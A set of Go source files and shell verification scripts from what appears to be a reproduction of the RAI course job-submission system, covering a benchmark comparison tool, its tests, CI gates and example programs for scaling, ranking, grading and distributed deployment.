	if *binDir == "" {
		moduleRoot, err := bench.FindModuleRoot(".")
		if err != nil {
			fmt.Fprintf(stderr, "raibench fs-smoke: %v (pass -bin to use a prebuilt raifs)\n", err)
			return 1
		}
		built, err := bench.BuildBinary(ctx, moduleRoot, dir, "raifs", stdout)
		if err != nil {
			fmt.Fprintf(stderr, "raibench fs-smoke: %v\n", err)
			return 1
		}
		bin = built
	}

	res, err := bench.FSSmoke(ctx, clk, bench.FSSmokeConfig{
		Bin: bin, Dir: dir, BaseBytes: *size, GrowthAllowance: *allowance, ReadyTimeout: *readyTimeout,
	}, stdout)
	if err != nil {
		fmt.Fprintf(stderr, "raibench fs-smoke: %v\n", err)
		return 1
	}
	fmt.Fprintln(stdout, res)
	if !res.Flat {
		fmt.Fprintln(stderr, "raibench fs-smoke: FAIL — raifs memory tracks the archive size; the streamed storage path is buffering")
		return 1
	}
	if removeDir {
		_ = os.RemoveAll(dir)
	}
	return 0
}

func compareBench(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raibench compare", flag.ContinueOnError)
	fs.SetOutput(stderr)
	def := bench.DefaultThresholds()
	maxDrop := fs.Float64("max-throughput-drop", def.MaxThroughputDrop, "allowed fractional throughput loss")
	maxGrowth := fs.Float64("max-latency-growth", def.MaxLatencyGrowth, "allowed fractional latency growth")
	floor := fs.Duration("latency-floor", time.Duration(def.LatencyFloorS*float64(time.Second)), "absolute slack added to every latency limit")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if fs.NArg() != 2 {
		fmt.Fprintln(stderr, "usage: raibench compare [flags] OLD.json NEW.json")
		return 2
	}
	oldR, err := bench.LoadReport(fs.Arg(0))
	if err != nil {
		fmt.Fprintf(stderr, "raibench compare: %v\n", err)
		return 1
	}
	newR, err := bench.LoadReport(fs.Arg(1))
	if err != nil {
		fmt.Fprintf(stderr, "raibench compare: %v\n", err)
		return 1
	}
	th := bench.Thresholds{MaxThroughputDrop: *maxDrop, MaxLatencyGrowth: *maxGrowth, LatencyFloorS: floor.Seconds()}
	breaches, err := bench.Compare(oldR, newR, th)
	if err != nil {
		fmt.Fprintf(stderr, "raibench compare: %v\n", err)
		return 1
	}
	fmt.Fprintf(stdout, "baseline: %s (%d jobs, %.2f jobs/s)\n", fs.Arg(0), oldR.Jobs.Submitted, oldR.Throughput)
	fmt.Fprintf(stdout, "current:  %s (%d jobs, %.2f jobs/s)\n", fs.Arg(1), newR.Jobs.Submitted, newR.Throughput)
	if len(breaches) == 0 {
		fmt.Fprintln(stdout, "PASS: no regressions beyond thresholds")
		return 0
	}
	for _, b := range breaches {
		fmt.Fprintln(stdout, b)
	}
	return 1
}
