package main

import (
	"bytes"
	"path/filepath"
	"strings"
	"testing"

	"rai/internal/bench"
	"rai/internal/telemetry"
)

func writeReport(t *testing.T, dir, name string, mutate func(*bench.Report)) string {
	t.Helper()
	r := &bench.Report{
		Schema:     bench.Schema,
		Stamp:      telemetry.NewStamp("raibench", "test"),
		Throughput: 12,
		Jobs:       bench.JobCounts{Submitted: 80, Succeeded: 80},
		Latency:    bench.Percentiles{P50: 0.05, P99: 0.14, P999: 0.15, Count: 80},
		Phases: map[string]bench.Percentiles{
			"upload": {P99: 0.01},
			"run":    {P99: 0.1},
			"total":  {P99: 0.14},
		},
	}
	if mutate != nil {
		mutate(r)
	}
	path := filepath.Join(dir, name)
	if err := r.WriteFile(path); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestCompareCLIPassAndFail is the acceptance check for the compare
// mode: identical runs pass with exit 0; an injected regression exits
// nonzero and names the regressed metrics.
func TestCompareCLIPassAndFail(t *testing.T) {
	dir := t.TempDir()
	base := writeReport(t, dir, "old.json", nil)
	same := writeReport(t, dir, "same.json", nil)
	var out, errOut bytes.Buffer
	if code := run([]string{"compare", base, same}, &out, &errOut); code != 0 {
		t.Fatalf("identical compare exited %d: %s%s", code, out.String(), errOut.String())
	}
	if !strings.Contains(out.String(), "PASS") {
		t.Fatalf("no PASS line:\n%s", out.String())
	}

	// Injected regression: throughput collapses, tail latency explodes.
	regressed := writeReport(t, dir, "regressed.json", func(r *bench.Report) {
		r.Throughput = 1
		r.Latency.P99 = 30
		r.Phases["run"] = bench.Percentiles{P99: 25}
	})
	out.Reset()
	errOut.Reset()
	code := run([]string{"compare", base, regressed}, &out, &errOut)
	if code == 0 {
		t.Fatalf("regressed compare exited 0:\n%s", out.String())
	}
	for _, metric := range []string{"throughput_jobs_per_s", "latency.p99", "phase.run.p99"} {
		if !strings.Contains(out.String(), metric) {
			t.Errorf("breach output missing %s:\n%s", metric, out.String())
		}
	}
}

func TestCompareCLIBadArgs(t *testing.T) {
	var out, errOut bytes.Buffer
	if code := run([]string{"compare", "only-one.json"}, &out, &errOut); code != 2 {
		t.Fatalf("one-arg compare exited %d", code)
	}
	if code := run([]string{"compare", "/nonexistent/a.json", "/nonexistent/b.json"}, &out, &errOut); code != 1 {
		t.Fatalf("missing-file compare exited %d", code)
	}
}

func TestVersionSubcommand(t *testing.T) {
	var out, errOut bytes.Buffer
	if code := run([]string{"version"}, &out, &errOut); code != 0 {
		t.Fatalf("version exited %d", code)
	}
	if !strings.Contains(out.String(), "raibench") {
		t.Fatalf("version output %q", out.String())
	}
}

func TestUnknownCommand(t *testing.T) {
	var out, errOut bytes.Buffer
	if code := run([]string{"bogus"}, &out, &errOut); code != 2 {
		t.Fatalf("unknown command exited %d", code)
	}
}
