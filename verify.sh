#!/bin/sh
# Repo verification gate: vet, build everything, then race-test the
# packages with the most concurrency (telemetry registry/tracer/exporter,
# the observability collector, the broker engine, the retry layer, and
# the reconnecting TCP client). Used by CI and before committing.
set -eux

go vet ./...
go build ./...
go test -race ./internal/telemetry/... ./internal/collector/... ./internal/broker/... ./internal/netx/... ./internal/brokerd/...
