#!/bin/sh
# Repo verification gate: vet, build everything, run the project's own
# static-analysis pass (raivet — clock/context/span/HTTP/concurrency
# invariants, see internal/lint), the full suite under the race
# detector, a one-iteration smoke of every benchmark so the perf
# harness (DESIGN.md §3, §11) can't rot, and a closed-loop macro-bench
# smoke compared against the committed baseline (DESIGN.md §12). Used
# by CI and before committing.
set -eux

go vet ./...
go build ./...
# The full static-analysis pass, with the suppression budget pinned to
# the current debt: adding a //lint:ignore now means paying one down or
# raising the number here in review.
go run ./cmd/raivet -max-ignores 6 ./...
# Concurrency checks over _test.go too — tests spawn the same
# goroutines production does, and a leaky test helper poisons -race
# runs for everyone.
go run ./cmd/raivet -tests -enable goroleak,lockcopy,wgadd ./...
go test -race ./...
go test -run='^$' -bench=. -benchtime=1x .
# One-iteration smoke of the analysis benchmark: catches the engine
# regressing into re-type-checking per check (DESIGN.md §15).
go test -run='^$' -bench=BenchmarkRaivetFullTree -benchtime=1x ./internal/lint

# Macro-benchmark smoke: boot the real daemons, drive 8 simulated
# students for 10s, and gate on the tracked baseline with generous
# thresholds — this catches collapses (queue stalls, dead phases,
# order-of-magnitude tail growth), not single-digit-percent noise.
BENCH_OUT=$(mktemp -d)
trap 'rm -rf "$BENCH_OUT"' EXIT
go run ./cmd/raibench run -students 8 -duration 10s -workers 2 \
	-out "$BENCH_OUT/BENCH_smoke.json"
go run ./cmd/raibench compare \
	-max-throughput-drop 0.6 -max-latency-growth 3.0 -latency-floor 2s \
	BENCH_6.json "$BENCH_OUT/BENCH_smoke.json"

# Cache smoke: the resubmission workload against real booted daemons.
# raibench itself exits nonzero unless unchanged trees transfer ≥90%
# fewer bytes and the warm build cache hits; on top of that, gate the
# ISSUE's bar — a resubmitted identical tree must move < 5% of the cold
# upload's bytes — and assert the cache hit is visible in the phase
# attribution (a "cache" phase resolved from the worker's spans).
go run ./cmd/raibench run -students 4 -duration 10s -workers 2 \
	-resubmit -out "$BENCH_OUT/BENCH_resubmit.json"
awk '/"unchanged_reduction"/ { gsub(/[,]/, ""); r = $2 }
	/"cache_hits"/ { gsub(/[,]/, ""); h = $2 }
	END { if (r + 0 < 0.95 || h + 0 < 1) { print "cache smoke: reduction " r ", hits " h; exit 1 } }' \
	"$BENCH_OUT/BENCH_resubmit.json"
grep -q '"cache": {' "$BENCH_OUT/BENCH_resubmit.json"

# The SLO engine is the one package whose races would lie to operators
# (Observe/Evaluate/Export run concurrently in the collector): race it
# twice on top of the full -race pass above.
go test -race -count=2 ./internal/slo/

# Sampling smoke: the same macro-bench at 10% head sampling with the
# collector's SLO engine on. raibench itself exits nonzero unless the
# kept fraction tracks the rate and rai_slo_* gauges appear on the
# collector; the greps assert phase attribution resolved for the kept
# traces instead of degrading to an empty report.
go run ./cmd/raibench run -students 8 -duration 10s -workers 2 \
	-trace-sample 0.1 -slo \
	-out "$BENCH_OUT/BENCH_sampled.json"
grep -E '"traced_jobs": [1-9]' "$BENCH_OUT/BENCH_sampled.json"
if grep -E '"missing_traces": [1-9]' "$BENCH_OUT/BENCH_sampled.json"; then
	echo "verify: sampled run left kept traces unattributed" >&2
	exit 1
fi
