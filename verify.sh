#!/bin/sh
# Repo verification gate: vet, build everything, then race-test the
# packages with the most concurrency (telemetry registry/tracer, the
# broker engine, the retry layer, and the reconnecting TCP client).
# Used by CI and before committing.
set -eux

go vet ./...
go build ./...
go test -race ./internal/telemetry/... ./internal/broker/... ./internal/netx/... ./internal/brokerd/...
