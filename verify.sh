#!/bin/sh
# Repo verification gate: vet, build everything, run the project's own
# static-analysis pass (raivet — clock/context/span/HTTP/concurrency
# invariants, see internal/lint), the full suite under the race
# detector, and a one-iteration smoke of every benchmark so the perf
# harness (DESIGN.md §3, §11) can't rot. Used by CI and before
# committing.
set -eux

go vet ./...
go build ./...
go run ./cmd/raivet ./...
go test -race ./...
go test -run='^$' -bench=. -benchtime=1x .
