module rai

go 1.22
