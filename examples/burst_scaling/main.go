// Burst scaling: the §III/§VII provisioning story quantified. Replays
// the fall 2016 deadline burst (the paper's Figure 4 trace: ~30k
// submissions in the final two weeks) against a fixed local cluster, a
// generously over-provisioned fixed fleet, and RAI's elastic policy —
// then reprints the per-phase resource usage of §VII.
//
//	go run ./examples/burst_scaling
package main

import (
	"fmt"
	"log"
	"time"

	"rai/internal/scaling"
	"rai/internal/sim"
	"rai/internal/workload"
)

func main() {
	fmt.Println("generating the fall 2016 course (seeded, deterministic)...")
	course := workload.Generate(workload.Fall2016())
	fmt.Printf("teams: %d, submissions: %d (%d in the final two weeks)\n\n",
		len(course.Teams), len(course.Submissions), len(course.LastTwoWeeks()))

	// Figure 4: the submission timeline being replayed.
	fig4 := sim.Figure4(course)
	fmt.Print(fig4.Text)

	// The deadline-burst comparison (final two weeks, single-job workers).
	from := course.Cfg.Deadline.Add(-14 * 24 * time.Hour)
	to := course.Cfg.Deadline.Add(time.Hour)
	fmt.Println("\n== queue delay and cost under the burst ==")
	_, table, err := sim.ComparePolicies(course, from, to, []scaling.Policy{
		scaling.FixedPolicy{N: 4},  // an oversubscribed local cluster (§III)
		scaling.FixedPolicy{N: 10}, // mid-course RAI capacity
		scaling.FixedPolicy{N: 30}, // always-on peak capacity
		scaling.ElasticPolicy{Min: 4, Max: 30, SlotsPerInstance: 1},
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(table)

	// §VII: the three provisioning eras of the real deployment.
	fmt.Println("\n== resource usage phases (G2 -> P2, multi-job -> single-job) ==")
	_, phases, err := sim.ResourceUsagePhases(course)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(phases)
}
