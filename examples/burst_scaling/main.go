// Burst scaling: the §III/§VII provisioning story quantified. Replays
// the fall 2016 deadline burst (the paper's Figure 4 trace: ~30k
// submissions in the final two weeks) against a fixed local cluster, a
// generously over-provisioned fixed fleet, and RAI's elastic policy —
// then reprints the per-phase resource usage of §VII.
//
//	go run ./examples/burst_scaling
package main

import (
	"fmt"
	"log"
	"time"

	"rai/internal/broker"
	"rai/internal/clock"
	"rai/internal/core"
	"rai/internal/scaling"
	"rai/internal/sim"
	"rai/internal/telemetry"
	"rai/internal/workload"
)

func main() {
	fmt.Println("generating the fall 2016 course (seeded, deterministic)...")
	course := workload.Generate(workload.Fall2016())
	fmt.Printf("teams: %d, submissions: %d (%d in the final two weeks)\n\n",
		len(course.Teams), len(course.Submissions), len(course.LastTwoWeeks()))

	// Figure 4: the submission timeline being replayed.
	fig4 := sim.Figure4(course)
	fmt.Print(fig4.Text)

	// The deadline-burst comparison (final two weeks, single-job workers).
	from := course.Cfg.Deadline.Add(-14 * 24 * time.Hour)
	to := course.Cfg.Deadline.Add(time.Hour)
	fmt.Println("\n== queue delay and cost under the burst ==")
	_, table, err := sim.ComparePolicies(course, from, to, []scaling.Policy{
		scaling.FixedPolicy{N: 4},  // an oversubscribed local cluster (§III)
		scaling.FixedPolicy{N: 10}, // mid-course RAI capacity
		scaling.FixedPolicy{N: 30}, // always-on peak capacity
		scaling.ElasticPolicy{Min: 4, Max: 30, SlotsPerInstance: 1},
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(table)

	// §VII: the three provisioning eras of the real deployment.
	fmt.Println("\n== resource usage phases (G2 -> P2, multi-job -> single-job) ==")
	_, phases, err := sim.ResourceUsagePhases(course)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(phases)

	// The same elastic loop, closed over live telemetry: the autoscaler
	// reads queue depth and service time straight from the shared
	// registry (rai_broker_queue_depth, rai_broker_publish_total,
	// rai_worker_job_seconds) instead of bespoke bookkeeping.
	fmt.Println("\n== live autoscaler on broker telemetry ==")
	liveAutoscaler(course.Cfg.Deadline.Add(-24 * time.Hour))
}

// liveAutoscaler runs a deterministic minute-by-minute burst against a
// real broker and prints the decisions the telemetry-fed autoscaler
// takes. Each worker drains one job per minute (60s service time).
func liveAutoscaler(start time.Time) {
	vc := clock.NewVirtual(start)
	reg := telemetry.NewRegistry()
	b := broker.New(broker.WithClock(vc), broker.WithTelemetry(reg))
	defer b.Close()
	b.ExportQueueDepth(core.TasksTopic, core.TasksChannel)
	sub, err := b.Subscribe(core.TasksTopic, core.TasksChannel, 1)
	if err != nil {
		log.Fatal(err)
	}
	defer sub.Close()

	fleet := 0
	scaler := &scaling.Autoscaler{
		Policy:    scaling.ElasticPolicy{Min: 2, Max: 30, SlotsPerInstance: 1},
		Source:    scaling.MetricsSource(reg, core.TasksTopic, core.TasksChannel, vc),
		Clock:     vc,
		Cooldown:  3 * time.Minute,
		Telemetry: reg,
		ScaleUp:   func(n int) error { fleet += n; return nil },
		ScaleDown: func(n int) error { fleet -= n; return nil },
	}

	jobSecs := reg.Histogram("rai_worker_job_seconds",
		"wall time per completed job", telemetry.QueueDelayBuckets)
	fmt.Println("minute  arrivals  queue  workers  desired  decision")
	for minute, arrivals := range []int{2, 10, 40, 40, 20, 5, 0, 0, 0, 0} {
		for i := 0; i < arrivals; i++ {
			if _, err := b.Publish(core.TasksTopic, []byte("job")); err != nil {
				log.Fatal(err)
			}
		}
		// The fleet drains up to one job per worker this minute.
		for drained := 0; drained < fleet; drained++ {
			select {
			case m := <-sub.C():
				_ = sub.Ack(m)
				jobSecs.Observe(60)
			default:
				drained = fleet
			}
		}
		delta, err := scaler.Step()
		if err != nil {
			log.Fatal(err)
		}
		decision := "hold"
		if delta > 0 {
			decision = fmt.Sprintf("+%d workers", delta)
		} else if delta < 0 {
			decision = fmt.Sprintf("%d workers", delta)
		}
		depth, _ := reg.Value("rai_broker_queue_depth",
			telemetry.L("topic", core.TasksTopic), telemetry.L("channel", core.TasksChannel))
		desired, _ := reg.Value("rai_autoscaler_desired_workers")
		fmt.Printf("%6d  %8d  %5.0f  %7d  %7.0f  %s\n",
			minute, arrivals, depth, scaler.Current(), desired, decision)
		vc.Advance(time.Minute)
	}
	up, _ := reg.Value("rai_autoscaler_scale_events_total", telemetry.L("direction", "up"))
	down, _ := reg.Value("rai_autoscaler_scale_events_total", telemetry.L("direction", "down"))
	fmt.Printf("scale events: %.0f up, %.0f down over %d decisions\n", up, down, scaler.Decisions())
}
