// Competition: run a small class's final submissions and show the
// ranking the way the course did (paper §VI) — students see their own
// team named and everyone else anonymized; the instructor sees real
// names and the Figure 2 runtime histogram.
//
//	go run ./examples/competition
package main

import (
	"context"
	"fmt"
	"io"
	"log"
	"time"

	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/project"
	"rai/internal/ranking"
	"rai/internal/sim"
	"rai/internal/workload"
)

func main() {
	ctx := context.Background()
	deployment, err := sim.NewDeployment(sim.DeployConfig{RateLimit: time.Nanosecond})
	if err != nil {
		log.Fatal(err)
	}
	defer deployment.Close()

	// Six teams at different optimization levels make final submissions.
	teams := []project.Spec{
		{Team: "bitfusion", Impl: cnn.ImplParallel, Tuning: 1.02},
		{Team: "gpugeeks", Impl: cnn.ImplParallel, Tuning: 1.21},
		{Team: "warpspeed", Impl: cnn.ImplIm2col, Tuning: 1.15},
		{Team: "tilewizards", Impl: cnn.ImplTiled, Tuning: 1.4},
		{Team: "latelearners", Impl: cnn.ImplLoopReorder, Tuning: 2.2},
		{Team: "segfault", Impl: cnn.ImplLoopReorder, Tuning: 19},
	}
	at := deployment.Clock.Now()
	for _, spec := range teams {
		spec.WithUsage, spec.WithReport = true, true
		client, err := deployment.NewClient(spec.Team, io.Discard)
		if err != nil {
			log.Fatal(err)
		}
		at = at.Add(time.Minute)
		res, err := deployment.RunSubmission(ctx, client, workload.Submission{
			Time: at, Team: spec.Team, Kind: core.KindSubmit, Spec: spec,
		})
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("%-14s final submission: %-9s runtime %8.3fs\n",
			spec.Team, res.Status, res.InternalTimer.Seconds())
	}

	lb := &ranking.Leaderboard{DB: deployment.DB}

	fmt.Println("\n== what team warpspeed sees (rai ranking) ==")
	entries, err := lb.View("warpspeed")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(ranking.Format(entries))

	fmt.Println("\n== instructor view ==")
	entries, err = lb.View("")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(ranking.Format(entries))

	fmt.Println("\n== Figure 2 style histogram (0.1s bins) ==")
	bins, err := lb.Histogram(30, 0.1)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(ranking.FormatHistogram(bins))

	// A second, faster submission overwrites the team's record (§V).
	fmt.Println("\n== segfault resubmits an improved kernel ==")
	client, _ := deployment.NewClient("segfault", io.Discard)
	res, err := deployment.RunSubmission(ctx, client, workload.Submission{
		Time: at.Add(time.Hour), Team: "segfault", Kind: core.KindSubmit,
		Spec: project.Spec{Team: "segfault", Impl: cnn.ImplTiled, Tuning: 1.6, WithUsage: true, WithReport: true},
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("new runtime %.3fs\n", res.InternalTimer.Seconds())
	rank, total, err := lb.RankOf("segfault")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("segfault is now ranked %d of %d\n", rank, total)

}
