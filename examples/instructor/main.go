// Instructor: the §VI/§VII staff workflow end to end — generate keys
// from the class roster (with the Listing 3 email), collect final
// submissions, download them from the file server, rerun each team
// multiple times keeping the best observed runtime, and emit grade
// reports under the 30/20/10/40 rubric.
//
//	go run ./examples/instructor
package main

import (
	"context"
	"fmt"
	"io"
	"log"
	"strings"
	"time"

	"rai/internal/auth"
	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/grading"
	"rai/internal/project"
	"rai/internal/sim"
	"rai/internal/vfs"
	"rai/internal/workload"
)

func main() {
	ctx := context.Background()
	deployment, err := sim.NewDeployment(sim.DeployConfig{RateLimit: time.Nanosecond})
	if err != nil {
		log.Fatal(err)
	}
	defer deployment.Close()

	// 1. Keys from the roster (the raiadmin keygen path).
	fmt.Println("== issuing authorization keys from the roster ==")
	roster, err := auth.ParseRoster([]byte(
		"firstname,lastname,userid\nAda,Lovelace,team-ada\nGrace,Hopper,team-grace\nAlan,Turing,team-alan\n"))
	if err != nil {
		log.Fatal(err)
	}
	outbox := &auth.Outbox{}
	mailer := &auth.KeyMailer{Registry: deployment.Auth, Outbox: outbox}
	issued, err := mailer.Run(roster)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("issued %d credentials; first email preview:\n", len(issued))
	email := outbox.Messages()[0]
	for _, line := range strings.Split(email.Body, "\n")[:8] {
		fmt.Println("  |", line)
	}

	// 2. Teams make their final submissions.
	fmt.Println("\n== final submissions ==")
	specs := map[string]project.Spec{
		"team-ada":   {Impl: cnn.ImplParallel, Tuning: 1.05},
		"team-grace": {Impl: cnn.ImplIm2col, Tuning: 1.3},
		"team-alan":  {Impl: cnn.ImplTiled, Tuning: 1.5},
	}
	at := deployment.Clock.Now()
	for team, spec := range specs {
		spec.Team, spec.WithUsage, spec.WithReport = team, true, true
		client, err := deployment.NewClient(team, io.Discard)
		if err != nil {
			log.Fatal(err)
		}
		at = at.Add(time.Minute)
		res, err := deployment.RunSubmission(ctx, client, workload.Submission{
			Time: at, Team: team, Kind: core.KindSubmit, Spec: spec,
		})
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("%-11s %-9s runtime %.3fs\n", team, res.Status, res.InternalTimer.Seconds())
	}

	// 3. Download all final submissions (raiadmin download).
	fmt.Println("\n== downloading final submissions ==")
	dl := &grading.Downloader{DB: deployment.DB, Objects: deployment.Objects, Cleanup: true}
	dst := vfs.New()
	teams, err := dl.DownloadAll(context.Background(), dst, "/graded")
	if err != nil {
		log.Fatal(err)
	}
	for _, team := range teams {
		size, _ := dst.TreeSize("/graded/" + team)
		fmt.Printf("%-11s -> /graded/%s (%d bytes after cleanup)\n", team, team, size)
	}

	// 4. Rerun each submission 3 times, keeping the minimum (§VI).
	fmt.Println("\n== grading reruns (min of 3) ==")
	var reruns []*grading.RerunResult
	for team, spec := range specs {
		spec.Team, spec.WithUsage, spec.WithReport = team, true, true
		client, _ := deployment.NewClient(team, io.Discard)
		res, err := grading.RerunMin(team, 3, func(string) (time.Duration, float64, error) {
			deployment.Clock.Advance(time.Minute)
			r, err := deployment.RunSubmission(ctx, client, workload.Submission{
				Time: deployment.Clock.Now(), Team: team, Kind: core.KindSubmit, Spec: spec,
			})
			if err != nil {
				return 0, 0, err
			}
			return r.InternalTimer, r.Accuracy, nil
		})
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("%-11s best %.3fs over %d runs\n", team, res.Best.Seconds(), len(res.Runs))
		reruns = append(reruns, res)
	}

	// 5. Grade reports: automated measurements + manual scores.
	fmt.Println("\n== grade reports (performance 30%, functionality 20%, code 10%, report 40%) ==")
	manual := map[string]grading.ManualScores{
		"team-ada":   {CodeQuality: 95, Report: 92},
		"team-grace": {CodeQuality: 88, Report: 90},
		"team-alan":  {CodeQuality: 72, Report: 80},
	}
	grader := &grading.Grader{TargetAccuracy: 0.9}
	grades, err := grader.GradeClass(reruns, manual)
	if err != nil {
		log.Fatal(err)
	}
	for _, g := range grades {
		fmt.Println(grading.FormatReport(g))
	}
}
