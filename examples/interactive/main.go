// Interactive: the paper's §VIII future work, implemented — an
// interactive session where the container stays alive between commands,
// so students can iterate with the compiler, profiler, and debugger the
// way they would on a machine of their own, while every §V limit (image
// whitelist, read-only /src, no network, memory and lifetime caps)
// remains enforced.
//
//	go run ./examples/interactive
package main

import (
	"context"
	"fmt"
	"log"
	"os"
	"time"

	"rai/internal/cnn"
	"rai/internal/project"
	"rai/internal/sim"
)

func main() {
	ctx := context.Background()
	deployment, err := sim.NewDeployment(sim.DeployConfig{RateLimit: time.Nanosecond})
	if err != nil {
		log.Fatal(err)
	}
	defer deployment.Close()

	// Instructors opt workers into sessions (§VIII: "allowing
	// instructors to configure interactive sessions").
	worker := deployment.Workers()[0]
	worker.Cfg.AllowSessions = true
	worker.Cfg.SessionIdleTimeout = time.Hour
	go func() { _ = worker.RunContext(ctx) }()
	defer worker.Stop()

	client, err := deployment.NewClient("debug-team", os.Stdout)
	if err != nil {
		log.Fatal(err)
	}
	client.LogWait = time.Minute

	archive, err := sim.PackProject(project.Spec{Impl: cnn.ImplIm2col, Tuning: 1, Team: "debug-team"})
	if err != nil {
		log.Fatal(err)
	}
	session, err := client.OpenSessionContext(ctx, archive)
	if err != nil {
		log.Fatal(err)
	}
	defer session.Close()

	// The debugging loop: configure once, build, run, profile, inspect —
	// state persists across commands because it is one container.
	for _, cmd := range []string{
		"cmake /src",
		"make",
		"./ece408 /data/test10.hdf5 /data/model.hdf5",
		"nvprof --export-profile timeline.nvprof ./ece408 /data/test10.hdf5 /data/model.hdf5",
		"ls /build",
		"cat timeline.nvprof",
	} {
		fmt.Printf("\nrai> %s\n", cmd)
		res, err := session.Run(ctx, cmd)
		if err != nil {
			log.Fatal(err)
		}
		if res.ExitCode != 0 {
			fmt.Printf("(exit %d)\n", res.ExitCode)
		}
	}

	if err := session.Close(); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\nsession ended: %s; /build archived at %s/%s\n",
		session.Result.Status, session.Result.BuildBucket, session.Result.BuildKey)
}
