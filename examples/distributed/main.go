// Distributed: the real wire-level deployment on loopback. Starts the
// broker (TCP), file server (HTTP), and database (HTTP) as separate
// services, registers a worker over the network, and drives a student
// client through the §V submission sequence — the same component layout
// as the paper's AWS deployment, minus the ocean between machines.
//
//	go run ./examples/distributed
package main

import (
	"context"
	"fmt"
	"log"
	"net"
	"net/http"
	"os"
	"time"

	"rai/internal/auth"
	"rai/internal/broker"
	"rai/internal/brokerd"
	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/objstore"
	"rai/internal/project"
	"rai/internal/registry"
	"rai/internal/sim"
	"rai/internal/vfs"
)

func main() {
	ctx := context.Background()
	// --- services, each on its own loopback listener ---
	b := broker.New()
	brokerSrv, err := brokerd.NewServer(b, "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	defer brokerSrv.Close()
	fmt.Println("broker   :", brokerSrv.Addr())

	store := objstore.New(objstore.WithDefaultTTL(30 * 24 * time.Hour))
	fsLn, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	fsSrv := &http.Server{Handler: objstore.Handler(store, nil)}
	go func() { _ = fsSrv.Serve(fsLn) }()
	defer fsSrv.Close()
	fsURL := "http://" + fsLn.Addr().String()
	fmt.Println("fileserv :", fsURL)

	db := docstore.New()
	dbLn, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	dbSrv := &http.Server{Handler: docstore.Handler(db, nil)}
	go func() { _ = dbSrv.Serve(dbLn) }()
	defer dbSrv.Close()
	dbURL := "http://" + dbLn.Addr().String()
	fmt.Println("database :", dbURL)

	// --- credentials (normally emailed by raiadmin keygen) ---
	reg := auth.NewRegistry()
	creds, err := reg.Issue("team-remote")
	if err != nil {
		log.Fatal(err)
	}

	// --- a worker connecting over the network ---
	workerQueue, err := core.NewRemoteQueue(ctx, brokerSrv.Addr())
	if err != nil {
		log.Fatal(err)
	}
	defer workerQueue.Close()
	dataFS := buildData()
	worker := &core.Worker{
		Cfg:      core.WorkerConfig{ID: "remote-worker", MaxConcurrent: 2, RateLimit: time.Nanosecond},
		Queue:    workerQueue,
		Objects:  objstore.NewClient(fsURL),
		DB:       docstore.NewClient(dbURL),
		Auth:     reg,
		Images:   registry.NewCourseRegistry(),
		DataFS:   dataFS,
		DataPath: "/data",
	}
	go func() { _ = worker.RunContext(ctx) }()
	defer worker.Stop()
	fmt.Println("worker   : remote-worker subscribed to rai/tasks")

	// --- the student client, also over the network ---
	clientQueue, err := core.NewRemoteQueue(ctx, brokerSrv.Addr())
	if err != nil {
		log.Fatal(err)
	}
	defer clientQueue.Close()
	client := &core.Client{
		Creds:   creds,
		Queue:   clientQueue,
		Objects: objstore.NewClient(fsURL),
		Stdout:  os.Stdout,
		LogWait: time.Minute,
	}
	archive, err := sim.PackProject(project.Spec{Impl: cnn.ImplParallel, Tuning: 1.0, Team: "team-remote"})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\n== streaming job output over TCP ==")
	res, err := client.SubmitContext(ctx, core.KindRun, nil, archive)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\njob %s: %s (accuracy %.4f)\n", res.JobID, res.Status, res.Accuracy)

	// The job record landed in the remote database.
	doc, err := docstore.NewClient(dbURL).FindOne(core.CollJobs, docstore.M{"job_id": res.JobID})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("database has the job: worker=%v status=%v\n", doc["worker"], doc["status"])
}

// buildData assembles the course /data volume.
func buildData() *vfs.FS {
	dataFS := vfs.New()
	nw := cnn.NewNetwork(408)
	model, err := nw.SaveModel()
	if err != nil {
		log.Fatal(err)
	}
	_ = dataFS.WriteFile("/data/model.hdf5", model)
	ds, err := cnn.SynthesizeDataset(nw, 409, 10)
	if err != nil {
		log.Fatal(err)
	}
	blob, _ := ds.Encode()
	_ = dataFS.WriteFile("/data/test10.hdf5", blob)
	full, err := cnn.SynthesizeDataset(nw, 410, 20)
	if err != nil {
		log.Fatal(err)
	}
	blob, _ = full.Encode()
	_ = dataFS.WriteFile("/data/testfull.hdf5", blob)
	return dataFS
}
