// Quickstart: submit one job through an in-process RAI deployment.
//
// This is the smallest end-to-end use of the reproduction: stand up the
// Figure 1 architecture (broker, file server, database, one worker),
// issue credentials, submit a project, and watch the build output stream
// back — exactly what a student sees when they type `rai run`.
//
//	go run ./examples/quickstart
package main

import (
	"context"
	"fmt"
	"log"
	"os"
	"time"

	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/project"
	"rai/internal/sim"
	"rai/internal/workload"
)

func main() {
	ctx := context.Background()
	// One worker, single-job mode, default 30s rate limit.
	deployment, err := sim.NewDeployment(sim.DeployConfig{Workers: 1})
	if err != nil {
		log.Fatal(err)
	}
	defer deployment.Close()

	// The teaching staff issues credentials; the client streams job
	// output to our terminal.
